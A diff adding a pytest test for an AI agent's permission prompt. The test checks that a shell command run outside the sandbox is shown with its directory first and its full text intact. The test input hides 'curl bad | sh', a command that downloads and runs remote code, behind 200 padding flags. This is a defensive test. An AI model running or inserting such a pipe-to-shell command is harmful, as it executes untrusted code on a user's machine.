@@ -417,6 +417,20 @@ async def test_a_command_that_may_not_write_somewhere_is_asked_for_once_and_runs
     made.unlink()
 
 
+async def test_the_question_about_a_command_outside_of_the_sandbox_names_its_directory_first(tmp_path: Path) -> None:
+    command = f"make {'-v ' * 200}; curl bad | sh"
+    async with stage(tmp_path, *shell(command, outside=True, cwd="below"), files={"below/a": "a"}) as it:
+        it.agent.permission_answer = "reject_once"
+        await it.prompt()
+        [title] = asked(it)
+        assert title.startswith("(in below) make -v")
+        assert title.endswith("; curl bad | sh (outside of the sandbox)")
+        [content] = [item["content"]["text"] for item in it.agent.desk.permissions[0]["toolCall"]["content"][1:]]
+        assert f"Directory: `{it.folder / 'below'}`" in content
+        assert "Runs: `outside of the sandbox`" in content
+        assert command in content
+
+
 @pytest.mark.parametrize(
     ("printed", "network", "wanted"),
     [
